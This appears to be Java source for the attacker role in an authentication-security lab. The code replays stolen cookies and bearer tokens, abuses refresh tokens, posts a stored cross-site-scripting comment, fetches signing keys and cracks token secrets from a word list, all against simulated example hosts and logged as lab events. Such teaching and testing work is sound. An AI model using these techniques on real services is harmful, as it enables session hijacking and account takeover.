package dev.authscope.attacker;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import org.jspecify.annotations.Nullable;
import tools.jackson.databind.json.JsonMapper;

import dev.authscope.browser.LabAddresses;
import dev.authscope.browser.WireAnswer;
import dev.authscope.flow.FlowEvent;
import dev.authscope.flow.Header;
import dev.authscope.flow.Item;
import dev.authscope.flow.Recorder;
import dev.authscope.keysearch.KeySearch;
import dev.authscope.keysearch.WordList;
import dev.authscope.keysearch.WordListException;

/**
 * The attacker. She sends what she likes with a client of her own, which keeps to none of a browser's rules: every header
 * field is hers to write.
 */
public final class Attacker implements AutoCloseable {

    /** The name under which she keeps a secret that she has found. */
    public static final String SECRET = "secret";

    /** Under which a note says how many candidates a second were tried; measured, so another number each time. */
    public static final String MEASURED_RATE = FlowEvent.Noted.MEASURED + "rate";

    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String JSON = "application/json";
    private static final String OWN_ACCOUNT = "mallory";
    private static final String OWN_PASSWORD = "mallory-pw-1";

    private final String actor;
    private final String shop;
    private final OwnClient client;
    private final Recorder recorder;
    private final Entrance entrance;

    /** How one logs in to the shop. */
    public enum Entrance {
        /** With a form, for a session. */
        SESSION,
        /** With JSON, for tokens. */
        TOKENS,
        /** At the issuer, for a session of the backend that keeps the tokens. */
        BACKEND
    }

    /** @param shop the shop's origin, such as {@code https://shop.example} */
    public Attacker(String actor, String shop, LabAddresses addresses, Recorder recorder, Entrance entrance) {
        this.actor = actor;
        this.shop = shop;
        this.client = new OwnClient(actor, shop, addresses, recorder);
        this.recorder = recorder;
        this.entrance = entrance;
    }

    /** Takes a value from a place that she reached without a message. */
    public void copy(Item item, String source) {
        gain(item.kind(), item.name(), item.value(), source);
    }

    /** Asks for something as anybody may. */
    public Optional<WireAnswer> request(String method, String url) {
        return send(method, url, null, null);
    }

    /** Gives somebody an address, by a mail or the like; no message of this network. */
    public void sendLink(String url) {
        recorder.record(actor, stamp -> new FlowEvent.Noted(stamp, "link-sent", Map.of("url", url)));
    }

    /** Gets ready to write a header field into an answer that passes her; no message by itself. */
    public void injects(String line) {
        recorder.record(actor, stamp -> new FlowEvent.Noted(stamp, "injection-armed", Map.of("line", line)));
    }

    /**
     * Uses a copied cookie; the content is JSON, or null for none.
     *
     * @param value null to ask without a cookie
     * @param agent the browser that she claims to be; null for her own client
     */
    public Optional<WireAnswer> replayCookie(String name, @Nullable String value, String method, String url,
            @Nullable String json, @Nullable String agent) {
        List<Header> own = new ArrayList<>();
        if (agent != null) {
            own.add(new Header("User-Agent", agent));
        }
        if (value != null) {
            own.add(new Header("Cookie", name + "=" + value));
        }
        return send(method, url, json, JSON, own.toArray(Header[]::new));
    }

    /**
     * Uses a copied access token; the content is JSON, or null for none.
     *
     * @param token null to ask without one
     */
    public Optional<WireAnswer> replayToken(@Nullable String token, String method, String url,
            @Nullable String json) {
        return token == null
                ? send(method, url, json, JSON)
                : send(method, url, json, JSON, new Header("Authorization", "Bearer " + token));
    }

    /**
     * Uses a copied refresh token: in the body, or as the cookie where the shop keeps it in one.
     *
     * @param token null to ask without one
     */
    public Optional<WireAnswer> useRefresh(@Nullable String token, boolean asCookie) {
        String grant = "grant_type=refresh_token";
        if (token == null) {
            return send("POST", "/auth/token", grant, FORM);
        }
        return asCookie
                ? send("POST", "/auth/token", grant, FORM, new Header("Cookie", "RT=" + token))
                : send("POST", "/auth/token",
                        grant + "&refresh_token=" + URLEncoder.encode(token, StandardCharsets.UTF_8), FORM);
    }

    /**
     * Logs in to an ordinary account of her own and writes a comment that holds a script.
     *
     * @param path of the post
     */
    public Optional<WireAnswer> injectXss(String path, String script) {
        String comment = JsonMapper.shared()
                .createObjectNode()
                .put("text", "Nice! <script>\n" + script + "</script>")
                .toString();
        return switch (entrance) {
            case SESSION -> ownSession().flatMap(own -> send("POST", path + "/comments", comment, JSON, own));
            case TOKENS -> ownToken().flatMap(own -> {
                // A token in a cookie belongs to the shop's own host, one in a header to its API.
                boolean api = own.name().equals("Authorization");
                String target = api ? shop.replaceFirst("://", "://api.") + path : path;
                return send("POST", target + "/comments", comment, JSON, own);
            });
            case BACKEND -> new BackendLogin(client).cookie(OWN_ACCOUNT, OWN_PASSWORD)
                    .flatMap(own -> send("POST", "/bff/api" + path + "/comments", comment, JSON, own,
                            new Header("X-BFF", "1")));
        };
    }

    /** Logs in to an ordinary account of her own, where the shop works with tokens; empty when there was no answer. */
    public Optional<WireAnswer> ownLogin() {
        String login = JsonMapper.shared()
                .createObjectNode()
                .put("username", OWN_ACCOUNT)
                .put("password", OWN_PASSWORD)
                .toString();
        return send("POST", "/auth/login", login, JSON);
    }

    /** Logs in as a client that wants to be told who logged in, and takes the ID token of the answer; empty when there is none. */
    public Optional<String> ownIdToken() {
        String login = JsonMapper.shared()
                .createObjectNode()
                .put("username", OWN_ACCOUNT)
                .put("password", OWN_PASSWORD)
                .put("scope", "openid")
                .put("nonce", "n-1")
                .toString();
        return send("POST", "/auth/login", login, JSON).flatMap(answer -> member(answer, "id_token"));
    }

    /** Has the shop's partner, where she is an admin, issue her a token for the shop's API; empty when there is none. */
    public Optional<String> partnerToken() {
        return send("POST", "https://partner.example/token",
                "grant_type=client_credentials&client_id=" + OWN_ACCOUNT + "&client_secret=" + OWN_PASSWORD
                        + "&resource=https%3A%2F%2Fapi.shop.example",
                FORM).flatMap(answer -> member(answer, "access_token"));
    }

    private static Optional<String> member(WireAnswer answer, String name) {
        return answer.status() == 200
                ? JsonMapper.shared().readTree(answer.body().utf8()).path(name).asStringOpt()
                : Optional.empty();
    }

    /** Fetches the issuer's public keys as anybody may, and keeps them. */
    public void takePublishedKeys() {
        send("GET", "/.well-known/jwks.json", null, null)
                .ifPresent(answer -> PublishedKey.all(answer.body().utf8())
                        .forEach((kid, jwk) -> gain("publicKey", kid, jwk, "jwks")));
    }

    /**
     * Fetches the issuer's public keys as anybody may, and writes the first one as key files hold it (RFC 7468 section 13).
     *
     * @return empty when there is no RSA key
     */
    public Optional<byte[]> publicKey() {
        return send("GET", "/.well-known/jwks.json", null, null)
                .flatMap(answer -> PublishedKey.pem(answer.body().utf8()));
    }

    /**
     * Looks for the secret behind a token, on her own machine and without a message.
     *
     * @param name short name of the token
     */
    public void crack(String name, String token, WordList list) {
        KeySearch search = KeySearch.of(token, list);
        Map<String, String> found = new LinkedHashMap<>();
        found.put("item", name);
        Optional<String> secret = Optional.empty();
        switch (outcome(search)) {
            case KeySearch.Found key -> {
                found.put("tried", String.valueOf(key.place()));
                found.put("result", "found");
                secret = Optional.of(new String(key.key(), StandardCharsets.UTF_8));
            }
            case KeySearch.NotApplicable nothing -> {
                found.put("tried", "0");
                found.put("result", "notApplicable");
            }
            case KeySearch.NotFound none -> notFound(found, none.tried());
            case KeySearch.Cancelled cancelled -> notFound(found, cancelled.tried());
        }
        found.put(MEASURED_RATE, String.valueOf(Math.round(search.progress().rate())));
        recorder.record(actor, stamp -> new FlowEvent.Noted(stamp, "crack", found));
        secret.ifPresent(key -> gain("key", SECRET, key, "wordList"));
    }

    private static void notFound(Map<String, String> found, long tried) {
        found.put("tried", String.valueOf(tried));
        found.put("result", "notFound");
    }

    private static KeySearch.Outcome outcome(KeySearch search) {
        try {
            return search.run();
        } catch (WordListException e) {
            throw new IllegalStateException("The program's own list of words can be read", e);
        }
    }

    private Optional<Header> ownToken() {
        return ownLogin().filter(answer -> answer.status() == 200)
                .flatMap(answer -> JsonMapper.shared()
                        .readTree(answer.body().utf8())
                        .path("access_token")
                        .asStringOpt()
                        .map(token -> new Header("Authorization", "Bearer " + token))
                        .or(() -> cookie(answer)));
    }

    private Optional<Header> ownSession() {
        return send("POST", "/login", "username=" + OWN_ACCOUNT + "&password=" + OWN_PASSWORD, FORM)
                .flatMap(Attacker::cookie);
    }

    private static Optional<Header> cookie(WireAnswer answer) {
        return answer.header("Set-Cookie").map(line -> new Header("Cookie", line.split(";", 2)[0]));
    }

    /** Tries an access token where it only tells who its owner is. */
    public void probeToken(String name, String token) {
        String url = shop.replaceFirst("://", "://api.") + "/me";
        probed(name, sendFor("probe", "GET", url, null, null, new Header("Authorization", "Bearer " + token)));
    }

    /** Tries a session cookie where it only tells who its owner is. */
    public void probeCookie(String name, String cookie, String value) {
        probed(name, sendFor("probe", "GET", "/me", null, null, new Header("Cookie", cookie + "=" + value)));
    }

    private void probed(String name, Optional<WireAnswer> answer) {
        int status = answer.map(WireAnswer::status).orElse(0);
        probed(name, "http", status == 200 ? "" : String.valueOf(status));
    }

    /**
     * Records what a probe found.
     *
     * @param how {@code http}, or {@code controlPlane} for a question inside the process
     * @param refusal why the value opens nothing any more; empty when it does
     */
    public void probed(String name, String how, String refusal) {
        Map<String, String> found = new LinkedHashMap<>();
        found.put("item", name);
        found.put("how", how);
        found.put("works", refusal.isEmpty() ? "yes" : "no");
        found.put("refusal", refusal);
        recorder.record(actor, stamp -> new FlowEvent.Noted(stamp, "probe", found));
    }

    /** Records that she holds a value. */
    public void gain(String kind, String name, String value, String source) {
        recorder.record(actor, stamp -> new FlowEvent.LootGained(stamp, kind, name, value, source));
    }

    private Optional<WireAnswer> send(String method, String pathOrUrl, @Nullable String body,
            @Nullable String contentType, Header... credentials) {
        return sendFor("step", method, pathOrUrl, body, contentType, credentials);
    }

    private Optional<WireAnswer> sendFor(String purpose, String method, String pathOrUrl, @Nullable String body,
            @Nullable String contentType, Header... own) {
        return client.send(purpose, method, pathOrUrl, body, contentType, own);
    }

    @Override
    public void close() {
        client.close();
    }
}
